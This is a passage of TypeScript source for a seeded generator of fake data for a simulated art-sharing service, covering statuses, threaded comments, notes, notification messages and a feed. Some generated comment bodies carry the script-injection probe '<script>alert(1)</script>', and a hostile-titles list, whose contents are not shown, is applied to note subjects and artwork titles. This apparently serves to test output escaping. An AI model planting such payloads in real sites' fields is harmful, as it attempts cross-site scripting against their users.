    dataset.statuses.push({
      statusid: rng.uuid(),
      authorId: owner.userid,
      body: `Status ${i + 1}: ${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)} today.`,
      ts: isoAt(startMs - rng.int(1, 400) * 86_400_000),
      isDeleted: false,
      sharedDeviationId: rng.chance(0.3) && ownerDevs.length > 0 ? rng.pick(ownerDevs).deviationid : null,
    });
  }
  dataset.statuses.sort((a, b) => b.ts.localeCompare(a.ts));

  // Comments: on the owner's deviations, profile and statuses.
  const commentTargets: CommentTarget[] = [
    ...ownerDevs.filter((d) => d.allowsComments && !d.isDeleted).map((d) => ({ kind: "deviation" as const, id: d.deviationid })),
    { kind: "profile", id: owner.username.toLowerCase() },
    ...dataset.statuses.map((s) => ({ kind: "status" as const, id: s.statusid })),
  ];
  for (const target of commentTargets) {
    const n = target.kind === "profile" ? 14 : rng.chance(0.55) ? rng.int(1, 8) : 0;
    const made: SimComment[] = [];
    for (let i = 0; i < n; i++) {
      const parent = made.length > 0 && rng.chance(0.3) ? rng.pick(made) : null;
      const c: SimComment = {
        commentid: String(4_000_000_000 + dataset.comments.length * 7 + rng.int(0, 6)),
        parentid: parent ? parent.commentid : null,
        target,
        posted: isoAt(startMs - rng.int(1, 300) * 86_400_000 + i * 60_000),
        userId: rng.chance(0.15) ? owner.userid : rng.pick(people).userid,
        body: rng.chance(0.05) ? `<script>alert(1)</script> nice` : `Lovely ${rng.pick(NOUNS)}!`,
        hidden: rng.chance(0.04) ? "hidden_as_spam" : null,
        likes: rng.int(0, 12),
        isFeatured: rng.chance(0.03),
      };
      made.push(c);
      dataset.comments.push(c);
    }
  }

  // Note folders and notes.
  dataset.noteFolders.push({ folderid: "1", parentid: null, title: "Inbox", system: true });
  dataset.noteFolders.push({ folderid: "2", parentid: null, title: "Sent", system: true });
  for (let i = 0; i < size.noteFolders; i++) {
    dataset.noteFolders.push({ folderid: rng.uuid(), parentid: null, title: `${cap(rng.pick(NOUNS))} notes`, system: false });
  }
  const customNoteFolders = dataset.noteFolders.filter((f) => !f.system);
  for (let i = 0; i < size.notes; i++) {
    const sent = rng.chance(0.25);
    const other = rng.pick(people);
    dataset.notes.push({
      noteid: String(60_000_000 + i * 13 + rng.int(0, 12)),
      folderid: sent ? "2" : customNoteFolders.length > 0 && rng.chance(0.3) ? rng.pick(customNoteFolders).folderid : "1",
      ts: isoAt(startMs - rng.int(1, 700) * 86_400_000 - i * 1000),
      unread: !sent && rng.chance(0.2),
      starred: rng.chance(0.1),
      sent,
      subject: i < HOSTILE_TITLES.length && i % 2 === 1 ? HOSTILE_TITLES[i]! : `Re: ${rng.pick(NOUNS)}`,
      body: `<p>Hello, about the ${rng.pick(NOUNS)}...</p>`,
      fromId: sent ? owner.userid : other.userid,
      recipientIds: sent ? [other.userid] : [owner.userid],
    });
  }
  dataset.notes.sort((a, b) => b.ts.localeCompare(a.ts));

  // Messages (newest has the highest seq).
  const messageTimes = Array.from({ length: size.messages }, () => startMs - rng.int(1, 60 * 86400) * 1000).sort((a, b) => a - b);
  for (const at of messageTimes) addGeneratedMessage(rng, dataset, ownerDevs, people, at);

  // Watch feed (legacy /feed/home).
  const feedTimes = Array.from({ length: size.feedItems }, () => startMs - rng.int(1, 30 * 86400) * 1000).sort((a, b) => a - b);
  const trackedDevs = new Map(tracked.map((u) => [u.userid, Array.from(dataset.deviations.values()).filter((d) => d.authorId === u.userid)]));
  for (const at of feedTimes) {
    const by = tracked.length > 0 ? rng.pick(tracked) : rng.pick(people);
    const devs = trackedDevs.get(by.userid) ?? [];
    const type = devs.length > 0 && rng.chance(0.75) ? "deviation_submitted" : "status";
    dataset.feed.push({
      seq: ++dataset.counters.feedSeq,
      ts: isoAt(at),
      type,
      byUserId: by.userid,
      bucketid: rng.hex(16),
      deviationIds: type === "deviation_submitted" ? rng.sample(devs, rng.int(1, 4)).map((d) => d.deviationid) : [],
      statusId: null,
      collectionFolderId: null,
    });
  }

  // Hostile titles on a handful of the owner's deviations.
  HOSTILE_TITLES.forEach((title, i) => {
    const d = ownerDevs[(i * 37 + 5) % Math.max(1, ownerDevs.length)];
    if (d) {
      d.title = title;
      d.slug = deviationSlug(title);
    }
  });

  applyDownloadExtras(dataset, options);
  // Its own generator, after everything else: the base dataset stays as it is, and seeds still differ.
  if (options.variance) applyVariance(dataset, createRng(seed ^ VARIANCE_SEED_SALT), tracked.map((u) => u.userid));
  return dataset;
}

function makeGallery(rng: Rng, dataset: Dataset, startMs: number, ownerId: string, count: number, folderCount: number, withDeleted: boolean): SimDeviation[] {
  const folders: SimGalleryFolder[] = [];
  const n = Math.max(1, folderCount);
  for (let i = 0; i < n; i++) {
    const parent = i >= 3 && rng.chance(0.35) ? rng.pick(folders.slice(1)).folderid : null;
    folders.push({
      folderid: rng.uuid(),
      ownerId,
      parent: i === 0 ? null : parent,
      name: i === 0 ? "Featured" : `${cap(rng.pick(ADJECTIVES))} ${cap(rng.pick(NOUNS))}${i > 8 ? ` ${i}` : ""}`,
      description: "",
      deviationIds: [],
    });
  }
  dataset.galleryFolders.push(...folders);
  // Newest first, like the service's default gallery order.
  const nowS = Math.floor(startMs / 1000);
  const devs: SimDeviation[] = [];
  for (let i = 0; i < count; i++) {
    const published = nowS - 3600 - Math.floor(((i + rng.next()) * 3 * 365 * 86400) / Math.max(1, count));
    devs.push(makeDeviation(rng, dataset, startMs, { authorId: ownerId, publishedTime: published }));
  }
  for (const d of devs) {
    if (n === 1) {
      folders[0]!.deviationIds.push(d.deviationid);
      continue;
    }
    rng.pick(folders.slice(1)).deviationIds.push(d.deviationid);
    if (rng.chance(0.1)) folders[0]!.deviationIds.push(d.deviationid);
  }
  // Deleted since: they stay in the folder lists (pages come back short) but never show.
  if (withDeleted) for (const d of devs) if (rng.chance(0.01)) d.isDeleted = true;
  return devs;
}

const MESSAGE_KINDS: Array<{ box: MessageBox; feedbackType: FeedbackType | null; type: string; weight: number }> = [
  { box: "feedback", feedbackType: "activity", type: "fave", weight: 5 },
  { box: "feedback", feedbackType: "activity", type: "watch", weight: 2 },
  { box: "feedback", feedbackType: "comments", type: "comment", weight: 3 },
  { box: "feedback", feedbackType: "replies", type: "reply", weight: 2 },
  { box: "mentions", feedbackType: null, type: "mention.deviation", weight: 1 },
  { box: "mentions", feedbackType: null, type: "mention.comment", weight: 1 },
];

export type NewMessageInput = { type?: string; originatorId?: string; subjectDeviationId?: string | null; at: number };

export function addGeneratedMessage(rng: Rng, dataset: Dataset, ownerDevs: readonly SimDeviation[], people: readonly SimUser[], at: number, forcedType?: string): SimMessage {
  const total = MESSAGE_KINDS.reduce((s, k) => s + k.weight, 0);
  let roll = rng.next() * total;
  let kind = MESSAGE_KINDS[0]!;
  for (const k of MESSAGE_KINDS) {
    roll -= k.weight;
    if (roll < 0) {
      kind = k;
      break;
    }
  }
  if (forcedType) kind = MESSAGE_KINDS.find((k) => k.type === forcedType) ?? kind;
  const originator = rng.pick(people);
  const subject = kind.type === "watch" || ownerDevs.length === 0 ? null : rng.pick(ownerDevs.slice(0, Math.min(ownerDevs.length, 30)));
  const seq = ++dataset.counters.messageSeq;
  // Faves and watches stack by subject; comments and mentions stand alone.
  const stackKey = kind.type === "fave" ? `fave:${subject?.deviationid}` : kind.type === "watch" ? "watch" : `single:${seq}`;
  const msg: SimMessage = {
    messageid: `${kind.type.replace(".", "_")}:${seq}:${rng.hex(8)}`,
    seq,
    box: kind.box,
    feedbackType: kind.feedbackType,
    type: kind.type,
    ts: isoAt(at),
    isNew: rng.chance(0.4),
    originatorId: originator.userid,
    stackid: `${kind.box}-${hashHex(stackKey)}`,
    subjectDeviationId: subject?.deviationid ?? null,
    subjectCommentId: kind.type === "comment" || kind.type === "reply" || kind.type === "mention.comment" ? String(5_000_000_000 + seq) : null,
    html: `<a href="https://www.deviantart.com/${originator.username}">${originator.username}</a> ${kind.type === "fave" ? "added to favourites" : kind.type}`,
  };
  dataset.messages.push(msg);
  return msg;
}

function hashHex(text: string): string {
  let h1 = 0x811c9dc5;
  let h2 = 0x1234567;
  for (let i = 0; i < text.length; i++) {
    h1 = Math.imul(h1 ^ text.charCodeAt(i), 0x01000193) >>> 0;
    h2 = Math.imul(h2 ^ text.charCodeAt(i), 0x5bd1e995) >>> 0;
  }
  return h1.toString(16).padStart(8, "0") + h2.toString(16).padStart(8, "0");
}

/** Looks a user up by username (case-insensitive) or userid. */
export function findUser(dataset: Dataset, key: string | undefined): SimUser | undefined {
  if (!key) return undefined;
  return dataset.usersByName.get(key.toLowerCase()) ?? dataset.users.get(key.toUpperCase());
}

export function owner(dataset: Dataset): SimUser {
  const u = dataset.users.get(dataset.ownerId);
  if (!u) throw new Error("simulator dataset has no owner");
  return u;
}
